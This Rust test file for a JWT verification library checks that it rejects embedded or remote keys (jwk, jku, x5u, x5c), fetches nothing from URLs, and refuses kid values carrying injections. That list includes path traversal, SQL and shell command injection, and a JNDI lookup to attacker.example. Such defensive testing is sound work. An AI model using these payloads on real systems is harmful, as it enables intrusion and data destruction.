//! The token brings its key along, or misuses the name of one.

use std::io::ErrorKind;
use std::net::TcpListener;

use serde_json::{Value, json};
use tower_bearer::key::{Algorithm, Key, KeyErrorKind};
use tower_bearer::testing::TestIssuer;
use tower_bearer::{AuthLayer, RejectionKind, Secret, StandardClaims, Verifier};

use crate::stack::*;

/// Counts who comes: nobody may.
struct Lure(TcpListener);

impl Lure {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Self(listener)
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}/{path}", self.0.local_addr().unwrap())
    }

    #[track_caller]
    fn nobody_came(&self) {
        let came = self.0.accept().map(|(_, from)| from).unwrap_err();
        assert_eq!(came.kind(), ErrorKind::WouldBlock);
    }
}

/// A connection, if there was one, would have been seen.
#[test]
fn the_lure_works() {
    let lure = Lure::new();
    lure.nobody_came();
    let _visitor = std::net::TcpStream::connect(lure.0.local_addr().unwrap()).unwrap();
    while lure.0.accept().is_err() {
        std::thread::yield_now();
    }
}

/// Signed by the attacker's key with this member in the header: rejected, with and without `kid`.
/// Signed by the issuer's key: the member is ignored.
fn is_not_trusted(member: &str, value: impl Fn(&TestIssuer, &Lure) -> Value) {
    for algorithm in [Algorithm::ES256, Algorithm::EdDSA] {
        let lure = Lure::new();
        let (issuer, attacker) = (generated(algorithm), generated(algorithm));
        let stack = stack(&issuer);
        pass(&stack, &issuer.token().sign());
        let value = value(&attacker, &lure);
        pass(&stack, &issuer.token().header(member, value.clone()).sign());
        let forged = attacker.token().header(member, value);
        refuse(&stack, &forged.sign(), RejectionKind::InvalidSignature);
        let nameless = forged.clone().without_header("kid").sign();
        refuse(&stack, &nameless, RejectionKind::InvalidSignature);
        let other = forged.header("kid", "attacker").sign();
        refuse(&stack, &other, RejectionKind::UnknownKey);
        lure.nobody_came();
    }
}

#[test]
fn rfc8725_s3_10_embedded_jwk() {
    is_not_trusted("jwk", |attacker, _| attacker.jwks()["keys"][0].clone());
}

#[test]
fn rfc8725_s3_10_embedded_symmetric_jwk() {
    is_not_trusted("jwk", |_, _| json!({"kty": "oct", "alg": "HS256", "k": encode([7; 32])}));
    let issuer = issuer();
    let stack = stack(&issuer);
    pass(&stack, &issuer.token().sign());
    let header = json!({"alg": "HS256", "jwk": {"kty": "oct", "k": encode([7; 32])}});
    let input = format!("{}.{}", encode(header.to_string()), encode(payload(&issuer)));
    let forged = format!("{input}.{}", hs256(&[7; 32], &input));
    refuse(&stack, &forged, RejectionKind::InvalidSignature);
}

#[test]
fn rfc8725_s3_10_jku() {
    is_not_trusted("jku", |_, lure| lure.url("jwks.json").into());
}

#[test]
fn rfc8725_s3_10_x5u() {
    is_not_trusted("x5u", |_, lure| lure.url("chain.pem").into());
}

#[test]
fn rfc8725_s3_10_x5c() {
    let pem = include_str!("../../src/key/testdata/p256.cert.pem");
    let body: String = pem.lines().filter(|line| !line.starts_with("--")).collect();
    is_not_trusted("x5c", |_, _| json!([body]));
}

/// RFC 8725 §3.10: `kid` and `iss` that are URLs are names, not places.
#[test]
fn rfc8725_s3_10_kid_and_iss_as_urls() {
    let lure = Lure::new();
    let issuer = issuer();
    let stack = stack(&issuer);
    pass(&stack, &issuer.token().sign());
    let token = issuer.token().header("kid", lure.url("key")).sign();
    refuse(&stack, &token, RejectionKind::UnknownKey);
    let token = issuer.token().claim("iss", lure.url("")).sign();
    refuse(&stack, &token, RejectionKind::WrongIssuer);
    lure.nobody_came();
}

#[test]
fn kid_injections_are_names_of_no_key() {
    let issuer = issuer();
    let stack = stack(&issuer);
    pass(&stack, &issuer.token().header("kid", "test").sign());
    for kid in [
        "",
        " ",
        "Test",
        "test ",
        " test",
        "test\0",
        "\0test",
        "../../../../../../dev/null",
        "..\\..\\windows\\win.ini",
        "/dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "file:///etc/passwd",
        "' OR '1'='1",
        "x' UNION SELECT 'a2V5'; --",
        "test'; DROP TABLE keys; --",
        "$(touch pwned)",
        "| whoami",
        "%74est",
        "te\u{301}st",
        "\r\nX-Injected: 1",
        "test\u{202e}",
        "*",
        "{{7*7}}",
        "${jndi:ldap://attacker.example/a}",
    ] {
        refuse(&stack, &issuer.token().header("kid", kid).sign(), RejectionKind::UnknownKey);
    }
}

/// The MAC under the content of the file that the `kid` points to, which is nothing at all.
#[test]
fn kid_that_leads_to_an_empty_key() {
    let issuer = issuer();
    let stack = stack(&issuer);
    pass(&stack, &issuer.token().sign());
    for kid in ["/dev/null", "../../../dev/null", "test", ""] {
        let header = json!({"alg": "HS256", "kid": kid}).to_string();
        let input = format!("{}.{}", encode(header), encode(payload(&issuer)));
        let kind = match kid {
            "test" => RejectionKind::InvalidSignature,
            _ => RejectionKind::UnknownKey,
        };
        for key in [&b""[..], &[0; 32], &[0; 64]] {
            refuse(&stack, &format!("{input}.{}", hs256(key, &input)), kind);
        }
    }
    for empty in [&b""[..], &[0; 32], &[0; 64], b"short"] {
        let error = Key::hs256(Secret::new(empty)).unwrap_err();
        assert_eq!(error.kind(), KeyErrorKind::Weak);
    }
}

#[test]
fn kid_of_another_type() {
    let issuer = issuer();
    let stack = stack(&issuer);
    let payload = payload(&issuer);
    pass(&stack, &signed(r#"{"alg":"HS256","kid":"test"}"#, &payload));
    for kid in ["0", "5", "-1", "1e400", "null", "true", "[]", r#"["test"]"#, "{}", r#"{"test":1}"#]
    {
        let token = signed(&format!(r#"{{"alg":"HS256","kid":{kid}}}"#), &payload);
        refuse(&stack, &token, RejectionKind::MalformedToken);
    }
}

#[test]
fn kid_of_a_megabyte() {
    let issuer = issuer();
    let stack = stack(&issuer);
    pass(&stack, &issuer.token().sign());
    let of = |length| issuer.token().header("kid", "k".repeat(length)).sign();
    refuse(&stack, &of(512), RejectionKind::UnknownKey);
    refuse(&stack, &of(513), RejectionKind::MalformedToken);
    refuse(&stack, &of(1 << 20), RejectionKind::InvalidRequest);
    let roomy = roomy(stack);
    pass(&roomy, &issuer.token().sign());
    refuse(&roomy, &of(1 << 20), RejectionKind::MalformedToken);
}

#[test]
fn rfc8725_s3_8_keys_belong_to_their_issuer() {
    let [ours, theirs] = ["https://a.example", "https://b.example"]
        .map(|name| generated(Algorithm::ES256).issuer(name));
    let verifiers = [&ours, &theirs].map(|issuer| issuer.verifier().build().unwrap());
    let stack = AuthLayer::new(Verifier::<StandardClaims>::of_issuers(verifiers).unwrap());
    for (issuer, other) in [(&ours, "https://b.example"), (&theirs, "https://a.example")] {
        pass(&stack, &issuer.token().sign());
        // The same kid, the other's key.
        let forged = issuer.token().claim("iss", other);
        refuse(&stack, &forged.sign(), RejectionKind::InvalidSignature);
        let nameless = forged.without_header("kid").sign();
        refuse(&stack, &nameless, RejectionKind::InvalidSignature);
        for iss in [
            json!("https://c.example"),
            json!("https://a.example/"),
            json!("https://A.example"),
            json!(""),
            json!(null),
            json!(["https://a.example", "https://b.example"]),
            json!({"https://a.example": 1}),
        ] {
            let token = issuer.token().claim("iss", iss).sign();
            refuse(&stack, &token, RejectionKind::WrongIssuer);
        }
        refuse(&stack, &issuer.token().without("iss").sign(), RejectionKind::WrongIssuer);
        // `iss` in the header says nothing.
        let token = issuer.token().without("iss").header("iss", "https://a.example").sign();
        refuse(&stack, &token, RejectionKind::WrongIssuer);
    }
    // Twice, so that two readers may see two issuers.
    let payload = payload(&ours);
    let header = r#"{"alg":"ES256","kid":"test"}"#;
    for iss in [r#""iss""#, r#""\u0069ss""#] {
        for other in ["https://a.example", "https://b.example"] {
            let twice = format!(r#"{{{iss}:"{other}",{}"#, &payload[1..]);
            let token = ours.token().sign_raw(header.as_bytes(), twice.as_bytes());
            refuse(&stack, &token, RejectionKind::WrongIssuer);
        }
    }
    // An array in place of an object.
    let token = ours.token().sign_raw(header.as_bytes(), br#"["https://a.example"]"#);
    refuse(&stack, &token, RejectionKind::InvalidClaims);
}
